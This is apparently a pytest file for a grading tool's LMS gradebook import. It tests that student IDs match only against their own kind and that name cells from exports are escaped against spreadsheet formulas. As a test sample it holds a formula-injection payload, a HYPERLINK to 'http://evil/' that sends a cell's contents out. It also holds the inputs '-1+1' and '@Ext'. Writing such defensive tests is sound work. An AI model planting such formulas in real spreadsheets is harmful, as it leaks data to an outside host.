"""Each LMS file's rows are matched to the gradebook by one kind of id, each kind only against its
own: a student who handed in nothing, whose SIS User ID (or Moodle ID number, or Blackboard Student
ID) is the same text as another student's Canvas ID (participant id, username), does not get that
student's grade. And every name cell an import file carries from the LMS's export is formula-safe
(grader.names.cell)."""

import csv
import io
from pathlib import Path

import pytest

from grader.grades.commands import make_gradebook
from grader.names import lms_key
from tests.test_gradebook import downloaded, out_with, policy_file, result
from tests.test_lms import bb_export

pytestmark = pytest.mark.lms
FORMULA = '=HYPERLINK("http://evil/"&A1,"click")'


def _two(tmp_path: Path, ids: tuple, lms: str) -> Path:
    out = out_with(tmp_path, result(ids[0]), result(ids[1], lost={"data_parallel": 10}))
    for key in ids:
        downloaded(out, key, lms=lms, upload=f"upload_{key}")
    return out


def _fill(tmp_path: Path, out: Path, lms: str, name: str, data) -> tuple:
    path = tmp_path / name
    path.write_bytes(data) if isinstance(data, bytes) else path.write_text(data)
    _, _, filled, _ = make_gradebook(out, policy_file(tmp_path), lms=[f"{lms}:{path}"], allow_no_time=True)
    written = Path(filled[0].written).read_bytes().decode("utf-8-sig")
    return filled[0], list(csv.reader(io.StringIO(written)))


def test_canvas_matches_an_sis_id_only_against_sis_ids_and_names_are_no_formulas(tmp_path):
    out = _two(tmp_path, ("5001", "5002"), "canvas")
    export = ('Student,ID,SIS User ID,SIS Login ID,Section,Assignment 4 (777)\nPoints Possible,,,,,100\n'
              '"Ng, Ann",7000,5001,ann@uni,S1,\n'                    # handed in nothing; her SIS id is Bob's Canvas id
              f'"{FORMULA.replace(chr(34), chr(34) * 2)}",5001,s-bob,bob@uni,S1,\n"Roe, Cat",5002,s-cat,cat@uni,S1,\n')
    filled, rows = _fill(tmp_path, out, "canvas", "export.csv", export)
    cells = {r[1]: r[-1] for r in rows[2:]}
    assert cells == {"7000": "", "5001": "100.00", "5002": "90.00"}
    assert filled.filled == 2 and any(k.startswith("Ng, Ann: no graded hand-in") for k in filled.kept)
    assert "5001: the ID of one row and the SIS User ID of another; matched as ID" in " ".join(filled.notes)
    assert [r[0] for r in rows[2:]] == ["Ng, Ann", "'" + FORMULA, "Roe, Cat"]


def test_canvas_keyed_by_sis_ids_is_matched_by_them(tmp_path):
    out = _two(tmp_path, ("s1", "s2"), "canvas")
    export = ('Student,ID,SIS User ID,SIS Login ID,Section,Assignment 4 (7)\n'
              '"Late, Ann",50001,s1,alate,A,\n"Over, Otto",50002,s2,oover,A,\n"Ext, Eve",s1,s3,eext,A,\n')
    filled, rows = _fill(tmp_path, out, "canvas", "export.csv", export)
    assert {r[2]: r[-1] for r in rows[1:]} == {"s1": "100.00", "s2": "90.00", "s3": ""}
    assert filled.filled == 2


def test_moodle_matches_an_id_number_only_against_id_numbers_and_names_are_no_formulas(tmp_path):
    out = _two(tmp_path, ("1001", "1002"), "moodle")
    sheet = ('Identifier,"Full name","ID number","Email address",Status,Grade,"Maximum Grade",'
             '"Grade can be changed","Feedback comments"\n'
             '"Participant 3000","Ann Nothing",1001,n@uni.example,"No submission",,100.00,Yes,\n'
             f'"Participant 1001","{FORMULA.replace(chr(34), chr(34) * 2)}",77,b@uni.example,"Submitted",,100.00,Yes,\n'
             '"Participant 1002","Cat Roe",78,c@uni.example,"Submitted",,100.00,Yes,\n')
    filled, rows = _fill(tmp_path, out, "moodle", "worksheet.csv", sheet)
    assert [(r[0], r[5]) for r in rows[1:]] == [("Participant 3000", ""), ("Participant 1001", "100.00"),
                                                ("Participant 1002", "90.00")]
    assert filled.filled == 2 and rows[2][1] == "'" + FORMULA


def test_blackboard_and_gradescope_names_are_no_formulas_and_ids_keep_to_their_kind(tmp_path):
    out = _two(tmp_path, ("alate", "oover"), "blackboard")
    people = [["Nothing", "Ann", "anothing", "alate", "", "Yes", "", ""],   # her Student ID is Ann's username
              ["-1+1", FORMULA, "alate", "0042", "", "Yes", "", ""],
              ["Over", "Otto", "oover", "0043", "", "Yes", "", ""]]
    filled, rows = _fill(tmp_path, out, "blackboard", "gc.csv", bb_export(people))
    assert [(r[2], r[4]) for r in rows[1:]] == [("anothing", ""), ("alate", "20.00"), ("oover", "18.00")]
    assert filled.filled == 2 and rows[2][:2] == ["'-1+1", "'" + FORMULA]
    out = out_with(tmp_path / "gs", result("s1"), result("e@uni.example"))
    export = ('First Name,Last Name,SID,Email,Sections,Total Score,Max Points,Status\n'
              f'"{FORMULA.replace(chr(34), chr(34) * 2)}",Late,s1,a@uni.example,,,10.0,Graded\n'
              'Eve,@Ext,,e@uni.example,,,10.0,Graded\n')
    filled, rows = _fill(tmp_path, out, "gradescope", "grades.csv", export)
    assert [(r[0], r[1], r[5]) for r in rows[1:]] == [("'" + FORMULA, "Late", "10.00"), ("Eve", "'@Ext", "10.00")]


def test_an_id_intake_had_to_rename_is_filled_under_the_lms_own_spelling(tmp_path):
    """An email safe_id changes (an apostrophe) is graded under intake's key for it (lms_key); the
    LMS's file names the student as the LMS does, and the grade still finds its row."""
    raw = "pat.o'neil@uni.example"
    out = out_with(tmp_path, result(lms_key(raw)), result("sam@uni.example"))
    export = ('First Name,Last Name,SID,Email,Sections,Total Score,Max Points,Status\n'
              f'Pat,ONeil,,{raw},,,10.0,Graded\nSam,Ng,,sam@uni.example,,,10.0,Graded\n')
    filled, rows = _fill(tmp_path, out, "gradescope", "grades.csv", export)
    assert lms_key(raw) != raw and filled.filled == 2
    assert [(r[3], r[5]) for r in rows[1:]] == [(raw, "10.00"), ("sam@uni.example", "10.00")]
